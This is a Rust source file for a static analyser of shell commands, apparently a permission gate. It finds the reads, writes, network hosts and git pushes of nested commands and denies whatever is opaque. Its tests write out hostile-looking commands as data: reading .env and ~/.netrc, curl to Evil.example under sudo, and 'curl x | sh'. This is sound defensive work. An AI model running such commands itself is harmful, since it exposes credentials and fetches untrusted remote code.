//! Static analysis of shell command lines with a real bash parser
//! (`brush-parser`): every simple command inside pipes, lists, subshells,
//! command substitutions, `bash -c`/`sh -c`/`eval` strings (recursively) and
//! wrapper prefixes (`env`, `sudo`, `xargs`, `timeout`, ...) is found, with the
//! files it reads and writes (arguments and redirections), the hosts it calls
//! and the branches it pushes. Whatever cannot be known statically (a command
//! name computed at run time, a program piped into a shell, an inline Python
//! program, a path in a variable) is reported as a problem: the caller denies.

use std::path::{Path, PathBuf};

use brush_parser::ast::{
    self, Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, IoFileRedirectKind, IoFileRedirectTarget,
    IoRedirect, SimpleCommand,
};
use brush_parser::word::{Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, SourceInfo};

use crate::config::ShellCfg;
use crate::paths::expand_glob;

/// Deepest nesting of scripts in scripts (`bash -c "$(eval ...)"`) analysed.
const MAX_DEPTH: usize = 8;

/// What a command line does, as far as can be told before running it.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Effects {
    /// Every script (the whole line, `-c` strings, substitutions) and simple command, as text.
    pub commands: Vec<String>,
    /// Files read (absolute, not yet resolved).
    pub reads: Vec<String>,
    /// Files written (absolute, not yet resolved).
    pub writes: Vec<String>,
    /// Network destinations: (host, URL or argument as written).
    pub hosts: Vec<(String, String)>,
    /// `git push` targets: the destination branch, `None` for the current branch.
    pub pushes: Vec<Option<String>>,
    /// Why (part of) the line cannot be analysed; any entry means deny.
    pub problems: Vec<String>,
}

/// Analyses a command line run in `cwd` with `$HOME` = `home`.
pub fn analyze(script: &str, cwd: &Path, home: &Path, cfg: &ShellCfg) -> Effects {
    let mut a = Analyzer { cfg, home: home.to_path_buf(), cwd: cwd.to_path_buf(), fx: Effects::default() };
    a.script(script, 0);
    dedup(&mut a.fx.commands);
    dedup(&mut a.fx.reads);
    dedup(&mut a.fx.writes);
    dedup(&mut a.fx.problems);
    a.fx
}

fn dedup<T: PartialEq + Clone>(v: &mut Vec<T>) {
    let mut out: Vec<T> = Vec::with_capacity(v.len());
    for x in v.drain(..) {
        if !out.contains(&x) {
            out.push(x);
        }
    }
    *v = out;
}

/// A word after the static part of expansion.
#[derive(Debug, Clone)]
struct W {
    text: String,
    /// false when part of it is only known at run time.
    known: bool,
    /// unquoted glob characters
    glob: bool,
}

struct Analyzer<'a> {
    cfg: &'a ShellCfg,
    home: PathBuf,
    cwd: PathBuf,
    fx: Effects,
}

fn has(list: &[String], name: &str) -> bool {
    list.iter().any(|x| x == name)
}

impl Analyzer<'_> {
    fn problem(&mut self, p: String) {
        self.fx.problems.push(p);
    }

    fn script(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH {
            self.problem(format!("commands nested more than {MAX_DEPTH} deep"));
            return;
        }
        self.fx.commands.push(text.trim().to_string());
        let parsed = std::panic::catch_unwind(|| {
            let mut parser =
                brush_parser::Parser::new(text.as_bytes(), &ParserOptions::default(), &SourceInfo::default());
            parser.parse_program()
        });
        match parsed {
            Ok(Ok(program)) => {
                for list in &program.complete_commands {
                    self.list(list, depth);
                }
            }
            Ok(Err(e)) => self.problem(format!("cannot parse shell command `{}`: {e}", text.trim())),
            Err(_) => self.problem(format!("cannot parse shell command `{}`", text.trim())),
        }
    }

    fn list(&mut self, list: &CompoundList, depth: usize) {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first, depth);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline, depth: usize) {
        for c in &p.seq {
            self.command_node(c, depth);
        }
    }

    fn command_node(&mut self, c: &Command, depth: usize) {
        match c {
            Command::Simple(s) => self.simple(s, depth),
            Command::Compound(cc, redirects) => {
                self.compound(cc, depth);
                if let Some(r) = redirects {
                    for io in &r.0 {
                        self.redirect(io, depth);
                    }
                }
            }
            Command::Function(f) => {
                self.compound(&f.body.0, depth);
                if let Some(r) = &f.body.1 {
                    for io in &r.0 {
                        self.redirect(io, depth);
                    }
                }
            }
            Command::ExtendedTest(t) => {
                let text = format!("{:?}", t.expr);
                if text.contains("$(") || text.contains('`') || text.contains("<(") {
                    self.problem("command substitution inside [[ ... ]] is not analysed".into());
                }
            }
        }
    }

    fn compound(&mut self, c: &CompoundCommand, depth: usize) {
        match c {
            CompoundCommand::Arithmetic(a) => self.arithmetic(&a.expr.value),
            CompoundCommand::ArithmeticForClause(f) => {
                let text = format!("{f:?}");
                if text.contains("$(") || text.contains('`') {
                    self.problem("command substitution inside an arithmetic for loop is not analysed".into());
                }
                self.list(&f.body.list, depth);
            }
            CompoundCommand::BraceGroup(b) => self.list(&b.list, depth),
            CompoundCommand::Subshell(s) => {
                let saved = self.cwd.clone();
                self.list(&s.list, depth);
                self.cwd = saved;
            }
            CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.expand(&w.value, depth);
                }
                self.list(&f.body.list, depth);
            }
            CompoundCommand::CaseClause(cc) => {
                self.expand(&cc.value.value, depth);
                for item in &cc.cases {
                    for p in &item.patterns {
                        self.expand(&p.value, depth);
                    }
                    if let Some(l) = &item.cmd {
                        self.list(l, depth);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, depth);
                self.list(&i.then, depth);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth);
                    }
                    self.list(&e.body, depth);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, depth);
                self.list(&w.1.list, depth);
            }
        }
    }

    fn arithmetic(&mut self, text: &str) {
        if text.contains("$(") || text.contains('`') {
            self.problem("command substitution inside an arithmetic expression is not analysed".into());
        }
    }

    /// Static expansion of a word; command substitutions inside are analysed.
    fn expand(&mut self, word: &str, depth: usize) -> W {
        match brush_parser::word::parse(word, &ParserOptions::default()) {
            Ok(pieces) => {
                let mut w = W { text: String::new(), known: true, glob: false };
                self.pieces(&pieces, &mut w, depth, false);
                w
            }
            Err(e) => {
                self.problem(format!("cannot parse shell word `{word}`: {e}"));
                W { text: word.to_string(), known: false, glob: false }
            }
        }
    }

    fn pieces(&mut self, pieces: &[WordPieceWithSource], w: &mut W, depth: usize, quoted: bool) {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(s) => {
                    if !quoted && s.contains(['*', '?', '[']) {
                        w.glob = true;
                    }
                    w.text.push_str(s);
                }
                WordPiece::SingleQuotedText(s) => w.text.push_str(s),
                WordPiece::AnsiCQuotedText(s) => {
                    if s.contains('\\') {
                        w.known = false;
                    }
                    w.text.push_str(s);
                }
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(inner, w, depth, true);
                }
                WordPiece::TildePrefix(user) => {
                    if user.is_empty() {
                        w.text.push_str(&self.home.display().to_string());
                    } else {
                        w.known = false;
                        w.text.push('~');
                        w.text.push_str(user);
                    }
                }
                WordPiece::ParameterExpansion(expr) => match expr {
                    ParameterExpr::Parameter { parameter: Parameter::Named(n), indirect: false } if n == "HOME" => {
                        w.text.push_str(&self.home.display().to_string());
                    }
                    ParameterExpr::Parameter { parameter: Parameter::Named(n), indirect: false } if n == "PWD" => {
                        w.text.push_str(&self.cwd.display().to_string());
                    }
                    other => {
                        let text = format!("{other:?}");
                        if text.contains("$(") || text.contains('`') {
                            self.problem("command substitution inside a parameter expansion is not analysed".into());
                        }
                        w.known = false;
                        w.text.push_str("$?");
                    }
                },
                WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => {
                    self.script(s, depth + 1);
                    w.known = false;
                    w.text.push_str("$(...)");
                }
                WordPiece::EscapeSequence(s) => w.text.push_str(s.strip_prefix('\\').unwrap_or(s)),
                WordPiece::ArithmeticExpression(e) => {
                    self.arithmetic(&e.value);
                    w.known = false;
                    w.text.push_str("$((...))");
                }
            }
        }
    }

    fn simple(&mut self, cmd: &SimpleCommand, depth: usize) {
        self.fx.commands.push(cmd.to_string());
        let mut argv: Vec<W> = Vec::new();
        for item in cmd.prefix.iter().flat_map(|p| p.0.iter()) {
            self.item(item, &mut argv, depth, true);
        }
        if let Some(w) = &cmd.word_or_name {
            let x = self.expand(&w.value, depth);
            argv.push(x);
        }
        for item in cmd.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, &mut argv, depth, false);
        }
        self.run(&argv, depth, false);
    }

    fn item(&mut self, item: &CommandPrefixOrSuffixItem, argv: &mut Vec<W>, depth: usize, prefix: bool) {
        match item {
            CommandPrefixOrSuffixItem::IoRedirect(r) => self.redirect(r, depth),
            CommandPrefixOrSuffixItem::Word(w) => {
                let x = self.expand(&w.value, depth);
                argv.push(x);
            }
            CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                let x = self.expand(&w.value, depth);
                if !prefix {
                    argv.push(x);
                }
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                self.list(&sub.list, depth);
                argv.push(W { text: "<(...)".into(), known: false, glob: false });
            }
        }
    }

    fn redirect(&mut self, r: &IoRedirect, depth: usize) {
        match r {
            IoRedirect::File(_, kind, target) => match target {
                IoFileRedirectTarget::Filename(w) => {
                    let x = self.expand(&w.value, depth);
                    match kind {
                        IoFileRedirectKind::Read => self.path(&x, false, "redirection"),
                        IoFileRedirectKind::ReadAndWrite => {
                            self.path(&x, false, "redirection");
                            self.path(&x, true, "redirection");
                        }
                        _ => self.path(&x, true, "redirection"),
                    }
                }
                IoFileRedirectTarget::Duplicate(w) => {
                    let x = self.expand(&w.value, depth);
                    let fd_like = x.text == "-" || x.text.trim_end_matches('-').chars().all(|c| c.is_ascii_digit());
                    if !fd_like {
                        self.path(&x, !matches!(kind, IoFileRedirectKind::DuplicateInput), "redirection");
                    }
                }
                IoFileRedirectTarget::Fd(_) => {}
                IoFileRedirectTarget::ProcessSubstitution(_, sub) => self.list(&sub.list, depth),
            },
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    self.expand(&doc.doc.value, depth);
                }
            }
            IoRedirect::HereString(_, w) => {
                self.expand(&w.value, depth);
            }
            IoRedirect::OutputAndError(w, _) => {
                let x = self.expand(&w.value, depth);
                self.path(&x, true, "redirection");
            }
        }
    }

    /// Records a file read or write.
    fn path(&mut self, w: &W, write: bool, what: &str) {
        if !w.known {
            self.problem(format!("{what} to or from a path only known at run time: `{}`", w.text));
            return;
        }
        let t = w.text.as_str();
        if matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/stdin" | "/dev/tty" | "-")
            || t.starts_with("/dev/fd/")
        {
            return;
        }
        let names: Vec<String> = if w.glob {
            match expand_glob(&self.cwd, t) {
                Some(v) => v,
                None => {
                    self.problem(format!("glob pattern `{t}` is not analysed"));
                    return;
                }
            }
        } else {
            vec![t.to_string()]
        };
        for n in names {
            let abs = if Path::new(&n).is_absolute() { PathBuf::from(&n) } else { self.cwd.join(&n) };
            let abs = abs.display().to_string();
            if write {
                self.fx.writes.push(abs);
            } else {
                self.fx.reads.push(abs);
            }
        }
    }

    /// One simple command, after static expansion of its words.
    fn run(&mut self, argv: &[W], depth: usize, from_xargs: bool) {
        let mut xargs = from_xargs;
        let mut i = 0usize;
        let name = loop {
            let Some(first) = argv.get(i) else { return };
            if !first.known {
                self.problem(format!("command name computed at run time: `{}`", first.text));
                return;
            }
            let name = first.text.rsplit('/').next().unwrap_or(&first.text).to_string();
            if name.contains(char::is_whitespace) {
                // `watch 'cat .env'` and the like run the string through a shell.
                let joined: Vec<&str> = argv.get(i..).unwrap_or_default().iter().map(|w| w.text.as_str()).collect();
                self.script(&joined.join(" "), depth + 1);
                return;
            }
            if !has(&self.cfg.wrappers, &name) {
                break name;
            }
            if name == "xargs" {
                xargs = true;
            }
            match self.skip_wrapper(&name, argv, i + 1, depth) {
                Some(next) => i = next,
                None => return,
            }
        };
        let args: Vec<&W> = argv.get(i + 1..).unwrap_or_default().iter().collect();
        let cfg = self.cfg;
        if xargs
            && (has(&cfg.readers, &name)
                || has(&cfg.writers, &name)
                || has(&cfg.copiers, &name)
                || has(&cfg.network, &name)
                || has(&cfg.shells, &name)
                || has(&cfg.opaque, &name)
                || name == "eval")
        {
            self.problem(format!("xargs passes arguments read at run time to `{name}`"));
            return;
        }
        match name.as_str() {
            "cd" | "pushd" => {
                match args.iter().find(|a| !a.text.starts_with('-')) {
                    None => self.cwd = self.home.clone(),
                    Some(a) if a.known && !a.glob => self.cwd = self.cwd.join(&a.text),
                    Some(a) => self.problem(format!("cd to a directory only known at run time: `{}`", a.text)),
                }
                return;
            }
            "popd" => {
                self.problem("popd: directory stack is not analysed".into());
                return;
            }
            "eval" => {
                self.inline_script(&args, depth, "eval");
                return;
            }
            "trap" | "alias" => {
                for a in &args {
                    let body = a.text.split_once('=').map_or(a.text.as_str(), |(_, v)| v).to_string();
                    if a.known {
                        self.script(&body, depth + 1);
                    } else {
                        self.problem(format!("{name} with a body only known at run time"));
                    }
                }
                return;
            }
            "git" => self.git(&args),
            "dd" => {
                for a in &args {
                    if let Some(f) = a.text.strip_prefix("if=") {
                        self.path(&W { text: f.to_string(), ..(*a).clone() }, false, "dd");
                    } else if let Some(f) = a.text.strip_prefix("of=") {
                        self.path(&W { text: f.to_string(), ..(*a).clone() }, true, "dd");
                    }
                }
            }
            "find" => self.find(&args, depth),
            _ => {}
        }
        if has(&cfg.shells, &name) {
            self.shell(&name, &args, depth);
        } else if has(&cfg.opaque, &name) {
            self.opaque(&name, &args);
        } else if has(&cfg.network, &name) {
            self.network(&name, &args);
        } else if name != "find" && has(&cfg.readers, &name) {
            self.reader(&name, &args);
        } else if has(&cfg.writers, &name) {
            for a in positionals(&args) {
                self.path(a, true, &name);
            }
        } else if has(&cfg.copiers, &name) {
            let pos = positionals(&args);
            if let Some((last, rest)) = pos.split_last() {
                for a in rest {
                    self.path(a, false, &name);
                }
                self.path(last, true, &name);
            }
        }
    }

    /// Returns the index of the wrapped command, or None when there is none
    /// (or it was handled here).
    fn skip_wrapper(&mut self, name: &str, argv: &[W], mut j: usize, depth: usize) -> Option<usize> {
        let takes_value: &[&str] = match name {
            "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-U", "-r", "-t", "-T", "--user", "--group"],
            "timeout" => &["-s", "-k", "--signal", "--kill-after"],
            "nice" => &["-n", "--adjustment"],
            "ionice" => &["-c", "-n", "-p", "--class", "--classdata"],
            "xargs" => &[
                "-I",
                "-n",
                "-P",
                "-L",
                "-d",
                "-a",
                "-E",
                "-s",
                "--max-args",
                "--max-procs",
                "--delimiter",
                "--arg-file",
            ],
            "stdbuf" => &["-i", "-o", "-e"],
            "env" => &["-u", "-C", "--unset", "--chdir"],
            "watch" => &["-n", "--interval"],
            "strace" | "ltrace" => &["-o", "-e", "-p", "-s", "-u"],
            "flock" => &["-w", "-E", "--timeout"],
            _ => &[],
        };
        let mut positional_skips = match name {
            "timeout" | "chrt" | "taskset" | "flock" => 1,
            _ => 0,
        };
        while let Some(a) = argv.get(j) {
            let t = a.text.as_str();
            if !a.known {
                self.problem(format!("{name} with an argument only known at run time: `{t}`"));
                return None;
            }
            if name == "env" && (t == "-S" || t.starts_with("--split-string")) {
                let rest: Vec<&W> = argv.get(j + 1..).unwrap_or_default().iter().collect();
                self.inline_script(&rest, depth, "env -S");
                return None;
            }
            if name == "xargs" && t == "-a" {
                if let Some(f) = argv.get(j + 1) {
                    self.path(f, false, "xargs");
                }
            }
            if (name == "sudo" || name == "su") && (t == "-s" || t == "-i") && argv.get(j + 1).is_none() {
                self.problem(format!("{name} {t} opens an interactive shell"));
                return None;
            }
            if t == "--" {
                j += 1;
                break;
            }
            if t.starts_with('-') && t.len() > 1 {
                j += if takes_value.contains(&t) { 2 } else { 1 };
                continue;
            }
            if name == "env" && t.contains('=') {
                j += 1;
                continue;
            }
            if positional_skips > 0 {
                positional_skips -= 1;
                j += 1;
                continue;
            }
            break;
        }
        if name == "watch" {
            let rest: Vec<&W> = argv.get(j..).unwrap_or_default().iter().collect();
            if !rest.is_empty() {
                self.inline_script(&rest, depth, "watch");
            }
            return None;
        }
        (j < argv.len()).then_some(j)
    }

    fn inline_script(&mut self, args: &[&W], depth: usize, what: &str) {
        if args.iter().any(|a| !a.known) {
            self.problem(format!("{what} of a string only known at run time"));
            return;
        }
        let text: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
        if !text.is_empty() {
            self.script(&text.join(" "), depth + 1);
        }
    }

    fn shell(&mut self, name: &str, args: &[&W], depth: usize) {
        let mut k = 0usize;
        while let Some(a) = args.get(k) {
            let t = a.text.as_str();
            if t.starts_with('-') && !t.starts_with("--") && t.len() > 1 && t.contains('c') {
                match args.get(k + 1) {
                    Some(s) if s.known => self.script(&s.text, depth + 1),
                    Some(s) => self.problem(format!("{name} -c with a script only known at run time: `{}`", s.text)),
                    None => self.problem(format!("{name} -c without a script")),
                }
                return;
            }
            if t == "-o" || t == "+o" || t == "-O" || t == "+O" {
                k += 2;
                continue;
            }
            if t.starts_with('-') || t.starts_with('+') {
                k += 1;
                continue;
            }
            // `bash script.sh`: runs a file.
            self.path(a, false, name);
            return;
        }
        self.problem(format!(
            "`{name}` reads its program from standard input (e.g. `curl ... | {name}`): not analysed"
        ));
    }

    fn opaque(&mut self, name: &str, args: &[&W]) {
        for a in args {
            let t = a.text.as_str();
            let inline = matches!(t, "--eval" | "--print" | "--command" | "-Command" | "-command" | "-EncodedCommand")
                || (t.starts_with('-') && !t.starts_with("--") && t.len() > 1 && t.contains(['c', 'e', 'E', 'r', 'p']));
            if inline {
                self.problem(format!("inline {name} program (`{t}`) cannot be analysed"));
                return;
            }
            if !t.starts_with('-') {
                if name.starts_with("python") && t == "-" {
                    break;
                }
                self.path(a, false, name);
                return;
            }
        }
        self.problem(format!("`{name}` reads its program from standard input: not analysed"));
    }

    fn reader(&mut self, name: &str, args: &[&W]) {
        let pattern_first =
            matches!(name, "grep" | "egrep" | "fgrep" | "rg" | "ag" | "sed" | "awk" | "gawk" | "jq" | "yq");
        let explicit_pattern = args.iter().any(|a| {
            let t = a.text.as_str();
            matches!(t, "-e" | "-f" | "--regexp" | "--file" | "--expression")
                || t.starts_with("--regexp=")
                || t.starts_with("--file=")
        });
        let in_place = name == "sed" && args.iter().any(|a| a.text.starts_with("-i") || a.text == "--in-place");
        let mut pos = positionals(args);
        if pattern_first && !explicit_pattern && !pos.is_empty() {
            pos.remove(0);
        }
        for a in pos {
            self.path(a, false, name);
            if in_place {
                self.path(a, true, name);
            }
        }
    }

    fn find(&mut self, args: &[&W], depth: usize) {
        let mut k = 0usize;
        while let Some(a) = args.get(k) {
            let t = a.text.as_str();
            if t.starts_with('-') || t == "(" || t == "!" {
                break;
            }
            self.path(a, false, "find");
            k += 1;
        }
        while let Some(a) = args.get(k) {
            let t = a.text.as_str();
            if matches!(t, "-exec" | "-execdir" | "-ok" | "-okdir") {
                let mut sub: Vec<W> = Vec::new();
                k += 1;
                while let Some(b) = args.get(k) {
                    if b.text == ";" || b.text == "+" {
                        break;
                    }
                    // `{}` stands for each file found: not known statically.
                    sub.push(if b.text.contains("{}") { W { known: false, ..(*b).clone() } } else { (*b).clone() });
                    k += 1;
                }
                self.fx.commands.push(sub.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" "));
                self.run(&sub, depth, false);
            } else if matches!(t, "-delete" | "-fprint" | "-fprintf" | "-fls") {
                self.problem(format!("find {t} writes files found at run time"));
            }
            k += 1;
        }
    }

    fn git(&mut self, args: &[&W]) {
        let mut k = 0usize;
        while let Some(a) = args.get(k) {
            match a.text.as_str() {
                "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" => k += 2,
                t if t.starts_with('-') => k += 1,
                _ => break,
            }
        }
        let Some(sub) = args.get(k) else { return };
        let rest: Vec<&W> = args.get(k + 1..).unwrap_or_default().to_vec();
        match sub.text.as_str() {
            "push" => {
                if rest.iter().any(|a| !a.known) {
                    self.problem("git push with arguments only known at run time".into());
                    return;
                }
                if rest.iter().any(|a| matches!(a.text.as_str(), "--all" | "--mirror" | "--tags")) {
                    self.fx.pushes.push(Some("*".into()));
                    return;
                }
                let pos = positionals(&rest);
                let refspecs = pos.get(1..).unwrap_or_default();
                if refspecs.is_empty() {
                    self.fx.pushes.push(None);
                }
                for r in refspecs {
                    let spec = r.text.trim_start_matches('+');
                    let dst = spec.rsplit(':').next().unwrap_or(spec);
                    let dst = dst.strip_prefix("refs/heads/").unwrap_or(dst);
                    if dst == "HEAD" || dst.is_empty() {
                        self.fx.pushes.push(None);
                    } else {
                        self.fx.pushes.push(Some(dst.to_string()));
                    }
                }
            }
            "clone" | "fetch" | "pull" | "ls-remote" | "remote" | "submodule" => {
                for a in positionals(&rest) {
                    if let Some(h) = url_host(&a.text) {
                        self.fx.hosts.push((h, a.text.clone()));
                    }
                }
            }
            "show" | "diff" | "log" | "blame" | "cat-file" | "grep" | "status" | "add" | "commit" | "checkout"
            | "switch" | "branch" | "stash" | "rebase" | "merge" | "reset" | "restore" | "rm" | "mv" | "tag" => {}
            _ => {}
        }
    }

    fn network(&mut self, name: &str, args: &[&W]) {
        let curl_like = matches!(name, "curl" | "wget" | "http" | "https" | "httpie" | "xh" | "aria2c" | "fetch");
        let value_opts: &[&str] = match name {
            "wget" => &[
                "-O",
                "-o",
                "-a",
                "-P",
                "-U",
                "-e",
                "-i",
                "-t",
                "-T",
                "-w",
                "--header",
                "--user-agent",
                "--output-document",
                "--output-file",
                "--post-data",
                "--post-file",
                "--body-file",
                "--input-file",
                "--user",
                "--password",
                "--referer",
                "--directory-prefix",
                "--tries",
                "--timeout",
                "--method",
            ],
            _ if curl_like => &[
                "-H",
                "-X",
                "-A",
                "-e",
                "-u",
                "-o",
                "-d",
                "-F",
                "-T",
                "-K",
                "-x",
                "-m",
                "-w",
                "-b",
                "-c",
                "-P",
                "-U",
                "-E",
                "-r",
                "-Y",
                "-y",
                "-z",
                "-C",
                "--header",
                "--request",
                "--user-agent",
                "--referer",
                "--user",
                "--output",
                "--data",
                "--data-binary",
                "--data-raw",
                "--data-urlencode",
                "--form",
                "--upload-file",
                "--config",
                "--proxy",
                "--max-time",
                "--write-out",
                "--cookie",
                "--cookie-jar",
                "--connect-timeout",
                "--retry",
                "--cert",
                "--key",
                "--cacert",
                "--resolve",
                "--connect-to",
                "--url",
            ],
            _ => &[
                "-p", "-i", "-l", "-o", "-F", "-P", "-J", "-L", "-R", "-D", "-w", "-e", "-b", "-c", "-m", "-S", "-W",
                "-q", "-s",
            ],
        };
        let mut k = 0usize;
        let mut found = false;
        while let Some(a) = args.get(k) {
            let t = a.text.as_str();
            if !a.known {
                self.problem(format!("{name} with an argument only known at run time: `{t}`"));
                return;
            }
            if t.starts_with('-') && t.len() > 1 {
                let (opt, inline) = match t.split_once('=') {
                    Some((o, v)) if t.starts_with("--") => (o, Some(v.to_string())),
                    _ => (t, None),
                };
                let value = if inline.is_some() {
                    inline
                } else if value_opts.contains(&opt) {
                    k += 1;
                    args.get(k).map(|v| v.text.clone())
                } else {
                    None
                };
                if let Some(v) = value {
                    let w = W { text: v.clone(), known: true, glob: false };
                    match opt {
                        "-o" | "--output" | "-O" | "--output-document" | "-a" | "--output-file" if curl_like => {
                            self.path(&w, true, name);
                        }
                        "--url" => {
                            if let Some(h) = url_host(&v) {
                                self.fx.hosts.push((h, v.clone()));
                                found = true;
                            }
                        }
                        "-T" | "--upload-file" | "-K" | "--config" | "--post-file" | "--body-file" => {
                            self.path(&w, false, name)
                        }
                        "-i" | "--input-file" if name == "wget" => {
                            self.path(&w, false, name);
                            self.problem(format!("{name} {opt}: URLs read from a file are not analysed"));
                        }
                        "-d" | "--data" | "--data-binary" | "--data-urlencode" | "--data-raw" | "-F" | "--form" => {
                            if let Some(f) = v.rsplit_once('@').map(|(_, f)| f) {
                                if opt != "--data-raw" && !f.is_empty() {
                                    let f = f.split(';').next().unwrap_or(f);
                                    self.path(&W { text: f.to_string(), known: true, glob: false }, false, name);
                                }
                            }
                        }
                        _ => {}
                    }
                }
                k += 1;
                continue;
            }
            if let Some(h) = url_host(t).or_else(|| (!curl_like || !t.contains(' ')).then(|| bare_host(t)).flatten()) {
                self.fx.hosts.push((h, t.to_string()));
                found = true;
                if !curl_like {
                    break;
                }
            }
            k += 1;
        }
        let info_only = args.iter().any(|a| matches!(a.text.as_str(), "--version" | "-V" | "--help" | "-h"));
        if !found && !info_only {
            self.problem(format!("{name}: no destination found in the arguments"));
        }
    }
}

/// Arguments that are not options (after `--`, everything).
fn positionals<'a>(args: &[&'a W]) -> Vec<&'a W> {
    let mut out = Vec::new();
    let mut rest = false;
    for a in args {
        if !rest && a.text == "--" {
            rest = true;
            continue;
        }
        if rest || !(a.text.starts_with('-') && a.text.len() > 1) || !a.known {
            out.push(*a);
        }
    }
    out
}

/// The host of `scheme://[user@]host[:port]/...`.
pub fn url_host(u: &str) -> Option<String> {
    let (_, rest) = u.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if let Some(v6) = host.strip_prefix('[') { v6.split(']').next()? } else { host.split(':').next()? };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// A host written without a scheme: `user@host`, `host:path`, `host/path`,
/// `TCP:host:port` (socat).
fn bare_host(t: &str) -> Option<String> {
    let t = t.strip_prefix("TCP:").or_else(|| t.strip_prefix("tcp:")).unwrap_or(t);
    let t = t.rsplit('@').next()?;
    let host = t.split([':', '/']).next()?;
    let plausible = !host.is_empty() && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
    (plausible && (host.contains('.') || host == "localhost")).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Mapping;

    fn fx(cmd: &str) -> Effects {
        let m = Mapping::builtin().unwrap_or_else(|e| panic!("{e}"));
        analyze(cmd, Path::new("/r"), Path::new("/home/u"), &m.shell)
    }

    #[test]
    fn finds_every_simple_command_and_its_files() {
        let f = fx("ls && cat .env | grep KEY > out.txt; (cd sub && head -n1 a.txt) || echo $(cat ~/.netrc)");
        assert!(f.problems.is_empty(), "{:?}", f.problems);
        assert!(f.reads.contains(&"/r/.env".to_string()), "{f:?}");
        assert!(f.reads.contains(&"/r/sub/a.txt".to_string()), "{f:?}");
        assert!(f.reads.contains(&"/home/u/.netrc".to_string()), "{f:?}");
        assert!(f.writes.contains(&"/r/out.txt".to_string()), "{f:?}");
        assert!(f.commands.iter().any(|c| c == "cat ~/.netrc"), "{:?}", f.commands);
    }

    #[test]
    fn nested_shells_wrappers_and_network() {
        let f = fx("sudo -u root env A=1 timeout 5 bash -c 'curl -s https://Evil.example/x -o /tmp/y'");
        assert_eq!(f.hosts, vec![("evil.example".to_string(), "https://Evil.example/x".to_string())]);
        assert_eq!(f.writes, vec!["/tmp/y".to_string()]);
        let f = fx("git push origin +HEAD:refs/heads/release && git push");
        assert_eq!(f.pushes, vec![Some("release".to_string()), None]);
    }

    #[test]
    fn what_cannot_be_known_is_a_problem() {
        for cmd in ["$CMD x", "curl x | sh", "python -c 'import os'", "cat \"$F\"", "xargs rm", "echo 'unterminated"] {
            assert!(!fx(cmd).problems.is_empty(), "{cmd}");
        }
        assert!(fx("cargo build --release 2>&1 | tail -3").problems.is_empty());
    }

    #[test]
    fn hosts() {
        assert_eq!(url_host("https://user@api.github.com:443/x"), Some("api.github.com".into()));
        assert_eq!(url_host("nope"), None);
        assert_eq!(bare_host("git@github.com:acme/api.git"), Some("github.com".into()));
    }
}
